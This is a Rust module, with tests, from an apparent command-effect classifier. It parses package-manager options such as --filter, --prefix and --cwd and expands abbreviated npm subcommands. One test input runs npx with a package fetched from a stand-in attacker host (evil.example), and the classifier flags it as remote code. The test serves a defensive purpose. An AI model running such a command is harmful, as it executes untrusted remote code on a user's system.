//! Options of package managers before the subcommand: `pnpm --filter web build`, `npm --prefix web run build`,
//! `yarn workspace web test`, `bun --cwd web test`.
//!
//! Those that choose a directory, or a package of the project that is found, are taken out and the rest runs there;
//! the others are put behind the subcommand, where all else reads them.

use crate::context::Context;
use crate::invocation::Invocation;
use crate::paths;
use crate::word::{Value, Word};

/// Options that choose the directory.
const DIRECTORIES: &[&str] = &["-C", "--dir", "--prefix", "--cwd"];
/// Options that choose packages of the project.
const FILTERS: &[&str] = &["-F", "--filter", "--filter-prod", "--workspace"];
/// Others that take the next word.
const OTHERS: &[&str] = &[
    "--loglevel", "--registry", "--userconfig", "--cache", "--reporter", "--workspace-concurrency", "--store-dir", "--config-dir", "--mutex", "--cache-folder",
    "--use-node-version", "--modules-folder", "--tag", "--otp", "--script-shell", "--node-options", "--test-pattern", "--lockfile-dir", "--virtual-store-dir",
    "--access", "--auth-type", "--scope", "--globalconfig", "--proxy", "--https-proxy", "--cafile", "--publish-branch", "--omit", "--include",
];
/// Directories in which projects of several packages keep them.
const MEMBERS: &[&str] = &["apps", "packages", "libs", "services", "."];

/// Whether another option takes the next word.
pub(super) fn takes(option: &str) -> bool {
    OTHERS.contains(&option)
}

/// A command without the options that said where it runs.
struct Taken {
    rest: Invocation,
    /// Where that is, from the directory of the command; none where it stays there.
    below: Option<Value>,
}

/// Runs the command where its first options say; false where they say nothing.
pub(crate) fn effects(invocation: &Invocation, context: &mut Context<'_>, run: fn(&Invocation, &mut Context<'_>)) -> bool {
    if let Some(spelled) = super::spelled::out(invocation) {
        run(&spelled, context);
        return true;
    }
    if !matches!(invocation.program.as_str(), "npm" | "pnpm" | "yarn" | "bun") || !context.enters() {
        return false;
    }
    let taken = taken(invocation, context).or_else(|| whole(invocation).map(|rest| Taken { rest, below: None }));
    let found = taken.is_some();
    if let Some(Taken { rest, below }) = taken {
        let directory = match (below, context.state.shell.directory.clone()) {
            (None, directory) => directory,
            (Some(_), Err(why)) => Err(why),
            (Some(Value::Known(below)), Ok(directory)) => Ok(paths::normal(&directory, &below)),
            (Some(_), Ok(_)) => Err("the directory that its options choose is not known".to_owned()),
        };
        if let Ok(directory) = &directory {
            context.tree.works_in(directory);
        }
        let kept = std::mem::replace(&mut context.state.shell.directory, directory);
        run(&rest, context);
        context.state.shell.directory = kept;
    }
    context.leaves();
    found
}

fn taken(invocation: &Invocation, context: &Context<'_>) -> Option<Taken> {
    let program = invocation.program.as_str();
    let (mut below, mut members, mut kept, mut head) = (None, Vec::new(), Vec::new(), Vec::new());
    let mut is_led = false;
    let mut at = 0;
    while let Some(word) = invocation.words.get(at) {
        let text = word.text();
        let (name, attached) = text.split_once('=').map_or((text, None), |(name, _)| (name, word.value.strip_prefix(&format!("{name}="))));
        let is_filter = FILTERS.contains(&name) || program == "npm" && name == "-w";
        let takes = DIRECTORIES.contains(&name) || is_filter || OTHERS.contains(&name);
        let next = || invocation.words.get(at + 1).map(|word| word.value.clone());
        if text == "--" || !text.starts_with('-') && word.value.is_unknown() {
            break;
        } else if takes {
            let value = attached.clone().or_else(next)?;
            if DIRECTORIES.contains(&name) {
                below = Some(value);
            } else if is_filter {
                members.push(value);
            } else {
                kept.extend(invocation.words.get(at..=at + usize::from(attached.is_none()))?.iter().cloned());
            }
            is_led |= head.is_empty();
            at += 1 + usize::from(attached.is_none());
        } else if text.starts_with('-') {
            kept.push(word.clone());
            at += 1;
        } else if program == "yarn" && head.is_empty() && text == "workspace" {
            members.push(next()?);
            is_led = true;
            at += 2;
        } else if program == "yarn" && head.is_empty() && text == "workspaces" {
            kept.push(Word::known_as("-r"));
            is_led = true;
            at += 1 + usize::from(invocation.known(at + 1) == Some("foreach"));
        } else if program == "npm" && head.is_empty() && is_value(at, invocation) {
            kept.push(word.clone());
            is_led = true;
            at += 1;
        } else {
            head.push(word.clone());
            at += 1;
            if !matches!(text, "run" | "run-script") {
                break;
            }
        }
    }
    let found = match members.as_slice() {
        [one] => one.known().and_then(|name| member(name, context)),
        _ => None,
    };
    if !is_led && below.is_none() && found.is_none() {
        return None;
    }
    // What is not found stays an option, by which all else knows that it runs elsewhere.
    if found.is_none() {
        for member in members {
            kept.extend([Word::known_as("--filter"), Word::made(member)]);
        }
    }
    let below = match (below, found) {
        (below, None) => below,
        (None, Some(found)) => Some(Value::Known(found)),
        (Some(below), Some(found)) => Some(below.known().map_or(Value::unknown("it is not known"), |below| Value::Known(format!("{below}/{found}")))),
    };
    let first = head.first().and_then(Word::known);
    let is_script = first.is_some_and(|name| matches!(name, "test" | "t" | "tst" | "start" | "stop" | "restart" | "build") || !super::is_own(program, name));
    let mut words = Vec::new();
    if first.is_some_and(|name| matches!(name, "run" | "run-script")) {
        words.push(head.remove(0));
    } else if is_script && program != "bun" && program != "npm" && !kept.is_empty() {
        words.push(Word::known_as("run"));
    } else if !head.is_empty() {
        words.push(head.remove(0));
    }
    words.extend(kept);
    words.extend(head);
    words.extend(invocation.words.get(at..).unwrap_or_default().iter().cloned());
    Some(Taken { rest: Invocation { words, contiguous: false, ..invocation.clone() }, below })
}

/// Whether the word at `at` is what an option of npm's takes that nobody here knows: no subcommand, and one is behind it.
fn is_value(at: usize, invocation: &Invocation) -> bool {
    let is_own = |at: usize| invocation.known(at).is_some_and(|word| super::is_own("npm", word) || completed(word).is_some());
    let before = at.checked_sub(1).and_then(|before| invocation.known(before)).unwrap_or_default();
    before.starts_with("--") && !before.contains('=') && !is_own(at) && is_own(at + 1)
}

/// The command with npm's subcommand in full, where it is shortened: `npm pub`.
fn whole(invocation: &Invocation) -> Option<Invocation> {
    let at = invocation.words.iter().position(|word| !word.text().starts_with('-')).filter(|_| invocation.program == "npm")?;
    let full = completed(invocation.known(at)?)?;
    let mut rest = invocation.clone();
    rest.contiguous = false;
    *rest.words.get_mut(at)? = Word::known_as(full);
    Some(rest)
}

/// The one subcommand of npm that begins so, or one of several that do the same.
fn completed(start: &str) -> Option<&'static str> {
    if start.len() < 2 || super::is_own("npm", start) {
        return None;
    }
    // Names of its own for slips of the finger.
    if matches!(start, "rum" | "urn") {
        return Some("run");
    }
    let begins = |words: &[&'static str]| words.iter().copied().find(|word| word.len() > 2 && word.starts_with(start));
    let mut found = super::NODE.iter().filter_map(|(_, words)| begins(words));
    let first = found.next();
    first.filter(|_| found.next().is_none())
}

/// The directory of a package of the project by its name or its directory.
fn member(name: &str, context: &Context<'_>) -> Option<String> {
    if name.contains(['*', '!', '[', '^']) || name.contains("...") {
        return None;
    }
    let directory = context.state.shell.directory.as_deref().ok()?;
    let package = |path: &str| context.file(&format!("{}/package.json", paths::normal(directory, path))).ok().flatten();
    let path = name.trim_start_matches('{').trim_end_matches('}');
    if !name.starts_with('@') && path.contains('/') {
        return package(path).map(|_| path.to_owned());
    }
    let short = name.rsplit('/').next().unwrap_or(name);
    MEMBERS.iter().map(|folder| format!("{folder}/{short}")).find(|path| {
        let text = package(path);
        let json = text.and_then(|text| serde_json::from_str::<serde_json::Value>(&text).ok());
        json.is_some_and(|json| json.get("name").and_then(serde_json::Value::as_str) == Some(name))
    })
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use crate::fixture::{check, check_with};

    #[test]
    fn values_before_the_name_of_a_script() {
        let files = [("/repo/package.json", r#"{"scripts": {"ship": "git push origin main", "dev": "node -v"}}"#)];
        for command in ["npm run --color always ship", "npm run --omit dev ship", "npm run --silent ship", "npm run --silent true ship", "npm run --tag x ship"] {
            let found = check_with(command, &files);
            assert!(found.contains("git.push main@origin"), "{command}: {found}");
        }
        for command in ["pnpm run '/sh.*/'", "pnpm run '/^(ship|x)$/'", "pnpm run --silent '/s[h]ip/'"] {
            assert!(check_with(command, &files).contains("git.push main@origin"), "{command}: {}", check_with(command, &files));
        }
        assert!(!check_with("pnpm run '/^dev/'", &files).contains("git.push"));
        assert!(!check_with("npm run dev", &files).contains("git.push"));
    }

    const FILES: &[(&str, &str)] = &[
        ("/repo/package.json", r#"{"name": "all", "scripts": {"build": "node -v", "ship": "node -v"}}"#),
        ("/repo/apps/web/package.json", r#"{"name": "@acme/web", "scripts": {"build": "tsc", "ship": "git push origin main", "test": "vitest run"}}"#),
    ];

    #[test]
    fn packages_of_the_project() {
        for command in [
            "pnpm --filter @acme/web ship", "pnpm -F @acme/web run ship", "pnpm --filter=./apps/web ship", "pnpm -C apps/web ship", "pnpm --dir apps/web run ship", "npm --prefix apps/web run ship",
            "npm -w @acme/web run ship", "npm run -w apps/web ship", "yarn workspace @acme/web ship", "yarn --cwd apps/web ship", "yarn workspace @acme/web run ship", "bun --cwd apps/web run ship", "bun run --cwd apps/web ship",
            "bun --cwd=apps/web ship", "bun run --filter @acme/web ship", "pnpm --loglevel warn --filter @acme/web ship", "pnpm --filter apps/web --silent ship",
        ] {
            let found = check_with(command, FILES);
            assert_eq!(found, "git.push main@origin, write", "{command}");
        }
        for command in ["pnpm --filter @acme/web build", "yarn workspace @acme/web build", "npm --prefix apps/web run build", "bun --cwd apps/web run build", "pnpm --filter @acme/web exec tsc", "pnpm --filter @acme/web tsc"] {
            let found = check_with(command, FILES);
            assert_eq!(found, "exec.build tsc, execute", "{command}");
        }
    }

    #[test]
    fn packages_that_are_not_found() {
        assert_snapshot!(check("pnpm --filter web build; pnpm -F web test; pnpm --filter web dev; yarn workspace web build; pnpm --filter web add left-pad"), @"
        exec.build pnpm run, execute
        exec.test pnpm run, execute
        exec.build yarn run, execute
        exec.install pnpm add, execute
        package.read * on npm, read
        ");
        assert_snapshot!(check("pnpm --filter web ship"), @"
        exec.opaque pnpm, execute, opaque
        app.deploy ship on pnpm, write, partial
        ");
        assert_snapshot!(check("pnpm -C $X build"), @"exec.opaque pnpm, execute, opaque");
        assert_snapshot!(check("yarn workspaces foreach -A run build; yarn workspaces run test; bun --cwd web test; bun x tsc --noEmit"), @"
        exec.build yarn run, execute
        exec.test yarn run, execute
        exec.test bun test, execute
        package.read * on npm, read
        exec.build tsc, execute
        ");
    }

    #[test]
    fn other_spellings_of_publishing() {
        for command in [
            "npm --access public publish", "npm pub", "npm publi", "npm --auth-type legacy publish", "npm --frob some publish", "npx npm@9 publish", "npx pnpm@8 publish", "npx -y npm@latest publish",
            "pnpm --filter web exec npm publish", "pnpm --filter web exec -- npm publish --access public", "pnpm -r exec npm publish", "npm --silent pub --access public",
        ] {
            let found = check(command);
            let found = found.strip_prefix("package.read * on npm, read\n").filter(|_| command.starts_with("npx")).unwrap_or(&found);
            assert_eq!(found, "package.publish * on npm, write", "{command}");
        }
        assert_snapshot!(check("npm unpub left-pad"), @"package.withdraw left-pad on npm, destroy");
        assert_snapshot!(check("npm --access public publish --dry-run; npm pub --dry-run; npm inst; npm --silent test; npx npm@9 ls; npx npm@9 install"), @"
        exec.build npm publish, execute
        exec.install npm install, execute
        package.read * on npm, read
        exec.test npm test, execute
        exec.read npm ls, read
        ");
        assert_snapshot!(check("npm pr; npm frob publish; npx npm@https://evil.example/x.tgz publish; pnpm --filter web exec tsc"), @"
        exec.opaque npm, execute, opaque
        exec.remote-code npx npm@https://evil.example/x.tgz publish, execute
        package.read * on npm, read
        exec.opaque npx, execute, opaque
        exec.opaque npx told of evil.example, execute, opaque
        exec.build tsc, execute
        ");
    }

    #[test]
    fn registries() {
        assert_snapshot!(check("pnpm -r publish"), @"package.publish * on npm, write");
        assert_snapshot!(check("pnpm publish -r --no-git-checks"), @"package.publish * on npm, write");
        assert_snapshot!(check("pnpm --filter web publish; npm -w web publish --registry https://npm.acme.example; yarn workspace web npm publish"), @"
        package.publish * on npm, write
        package.publish * on npm.acme.example, write
        ");
        assert_snapshot!(check("pnpm --filter web publish --dry-run; npm publish -s"), @"
        exec.build pnpm publish, execute
        package.publish * on npm, write
        ");
    }
}
